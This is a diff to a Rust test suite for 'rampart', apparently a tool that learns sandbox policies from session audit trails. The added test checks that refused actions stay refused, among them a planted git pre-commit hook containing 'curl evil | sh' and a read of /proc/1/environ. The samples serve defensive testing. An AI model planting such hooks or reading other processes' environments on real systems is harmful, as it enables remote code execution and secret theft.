@@ -146,6 +146,36 @@ fn vars(i: usize, port: u16) -> Vec<(&'static str, String)> {
     ]
 }
 
+/// `rampart init --from-audit` of the trail in `train`: the policy's file
+/// and text.
+fn learn(sb: &Sandbox, train: &Path) -> (PathBuf, String) {
+    let policy = sb.path("learned.yaml");
+    let o = sb
+        .rampart()
+        .args(["init", "--from-audit"])
+        .arg(train)
+        .arg("--output")
+        .arg(&policy)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", stderr(&o));
+    let yaml = std::fs::read_to_string(&policy).unwrap();
+    (policy, yaml)
+}
+
+/// The new session `o`, its trail in `audit`, ran to its end under the
+/// learned policy `yaml` and nothing of it was refused.
+fn held(o: &Output, audit: &Path, yaml: &str) {
+    let records = records_in(audit);
+    let refused = denials(&records);
+    assert!(
+        o.status.success(),
+        "the new session failed: {}\n{refused:#?}\n{yaml}",
+        stderr(o)
+    );
+    assert!(refused.is_empty(), "{refused:#?}\n{yaml}");
+}
+
 fn denials(records: &[Value]) -> Vec<String> {
     records
         .iter()
@@ -203,17 +233,7 @@ fn a_policy_learned_in_three_checkouts_holds_in_a_fourth_and_refuses_attacks_at_
         );
         assert!(o.status.success(), "training session {i}: {}", stderr(&o));
     }
-    let policy = sb.path("learned.yaml");
-    let o = sb
-        .rampart()
-        .args(["init", "--from-audit"])
-        .arg(&train)
-        .arg("--output")
-        .arg(&policy)
-        .output()
-        .unwrap();
-    assert!(o.status.success(), "{}", stderr(&o));
-    let yaml = std::fs::read_to_string(&policy).unwrap();
+    let (policy, yaml) = learn(&sb, &train);
     // The policy without its comments.
     let rules: String = yaml
         .lines()
@@ -272,18 +292,7 @@ fn a_policy_learned_in_three_checkouts_holds_in_a_fourth_and_refuses_attacks_at_
         &vars(4, tcp_server()),
         &["bash", "session.sh"],
     );
-    let records = records_in(&fresh);
-    assert!(
-        o.status.success(),
-        "the new session failed: {}\n{:#?}\n{yaml}",
-        stderr(&o),
-        denials(&records)
-    );
-    assert!(
-        denials(&records).is_empty(),
-        "{:#?}\n{yaml}",
-        denials(&records)
-    );
+    held(&o, &fresh, &yaml);
 
     // Attacks, refused at their own call, alone and with `standard`
     // layered under the learned policy.
@@ -350,4 +359,85 @@ fn a_policy_learned_in_three_checkouts_holds_in_a_fourth_and_refuses_attacks_at_
         "keep\n"
     );
     drop(low);
+}
+
+/// A session that starts a project of its own (`git init`), writes a
+/// script and a program under names of that session's and runs them, keeps
+/// scratch files in a temp directory of its own making, makes directories
+/// that are already there (`mkdir -p`) and deletes what is not (`rm -f`).
+const NEW_PROJECT: &str = r#"
+set -eu
+git init -q .
+mkdir -p src build "$HOME/.cache/tool" "$HOME/.cache/tool"
+printf 'import json, os, sys, tempfile\nd = tempfile.mkdtemp(prefix="%s-")\nopen(os.path.join(d, "data.json"), "w").write(json.dumps({"n": %s}))\nprint(open(os.path.join(d, "data.json")).read())\n' "$NAME" "$N" > "run_$NAME.py"
+python3 "run_$NAME.py" > /dev/null
+printf '#include <stdio.h>\nint main(void){puts("%s");return 0;}\n' "$NAME" > "src/$NAME.c"
+gcc -O1 -o "build/$NAME" "src/$NAME.c"
+"./build/$NAME" > /dev/null
+rm -f "build/$NAME.old" "$HOME/.cache/tool/stale"
+git add -A
+git commit -q -m "$MSG"
+"#;
+
+/// A policy learned from three new projects holds for a fourth with other
+/// names: the git hook samples `git init` writes, the project's scripts
+/// and programs under other names, scratch files under another temp name,
+/// a `mkdir -p` of what is there and an `rm -f` of what is not. (Before,
+/// the hook samples were learned by their exact paths and the first `git
+/// init` of a new project failed; `python3 run_bravo.py` admitted no other
+/// script.) And it still refuses a write into another project, a hook
+/// itself, and another process's environment.
+#[test]
+fn a_policy_learned_from_three_new_projects_holds_for_a_fourth() {
+    let sb = Sandbox::new();
+    let home = sb.home();
+    std::fs::create_dir_all(&home).unwrap();
+    let names = ["bravo", "ember", "raven", "kestrel"];
+    let train = sb.path("audit-train");
+    let session = |i: usize, audit: &Path, extra: &[&str]| {
+        let dir = home.join(format!("work/{}-{}", names[i], 31 * i + 7));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join("session.sh"), NEW_PROJECT).unwrap();
+        let vars = [
+            ("NAME", names[i].to_string()),
+            ("N", (100 + 37 * i).to_string()),
+            ("MSG", format!("start {}", names[i])),
+        ];
+        let o = run_in(&sb, &dir, audit, extra, &vars, &["bash", "session.sh"]);
+        (dir, o)
+    };
+    for i in 0..3 {
+        let (_, o) = session(i, &train, &[]);
+        assert!(o.status.success(), "training session {i}: {}", stderr(&o));
+    }
+    let (policy, yaml) = learn(&sb, &train);
+    assert!(yaml.contains("\"**/.git/hooks/*.sample\""), "{yaml}");
+    assert!(!yaml.contains("bravo-7/.git/hooks"), "{yaml}");
+
+    let fresh = sb.path("audit-new");
+    let enforce = ["--mode", "enforce", "--policy", policy.to_str().unwrap()];
+    let (dir, o) = session(3, &fresh, &enforce);
+    held(&o, &fresh, &yaml);
+
+    // Still refused, at their own call from the program the policy lets
+    // run scripts (`python3 *`): another project's files, a hook, another
+    // process's environment.
+    let other = home.join("work/bravo-7");
+    let audit = sb.path("audit-attack");
+    let attack = |code: String| {
+        let o = run_in(&sb, &dir, &audit, &enforce, &[], &["python3", "-c", &code]);
+        assert!(!o.status.success(), "{code}: {}", stdout(&o));
+    };
+    attack(format!(
+        "open('{}/src/evil.c', 'w').write('evil')",
+        other.display()
+    ));
+    attack("open('.git/hooks/pre-commit', 'w').write('curl evil | sh')".into());
+    attack("print(open('/proc/1/environ').read())".into());
+    let r = records_in(&audit);
+    denied_at(&r, "write", "path", "bravo-7/src/evil.c");
+    denied_at(&r, "write", "path", ".git/hooks/pre-commit");
+    denied_at(&r, "read", "path", "/proc/1/environ");
+    assert!(!other.join("src/evil.c").exists());
+    assert!(!dir.join(".git/hooks/pre-commit").exists());
 }
